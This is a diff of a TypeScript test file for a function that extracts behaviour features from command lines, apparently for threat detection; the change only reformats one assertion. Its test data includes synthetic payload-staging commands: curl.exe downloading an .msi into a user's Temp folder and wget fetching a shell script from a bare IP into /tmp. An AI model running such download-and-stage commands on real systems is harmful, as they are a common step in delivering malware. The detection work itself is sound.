@@ -3,12 +3,9 @@ import { behaviourSwitchesOf, behaviourValues, isBareScheme } from './behaviour-
 // Synthetic command lines; none comes from an article.
 describe('behaviour values: what an engineer keys a program on besides its specific values', () => {
   it("keeps a download's output switch, its staging folder, the payload's type and `http` for the URL", () => {
-    expect(behaviourValues('curl.exe', 'curl.exe -Lo C:\\Users\\ann\\AppData\\Local\\Temp\\q.msi https://dl.quill.example/q.msi', false)).toEqual([
-      '-Lo',
-      '\\AppData\\Local\\Temp\\',
-      '.msi',
-      'http',
-    ]);
+    expect(
+      behaviourValues('curl.exe', 'curl.exe -Lo C:\\Users\\ann\\AppData\\Local\\Temp\\q.msi https://dl.quill.example/q.msi', false),
+    ).toEqual(['-Lo', '\\AppData\\Local\\Temp\\', '.msi', 'http']);
     expect(behaviourValues('wget', 'wget -q http://198.51.100.7/x.sh -O /tmp/x.sh', false)).toEqual(['-O', '/tmp/', '.sh', 'http']);
   });
 
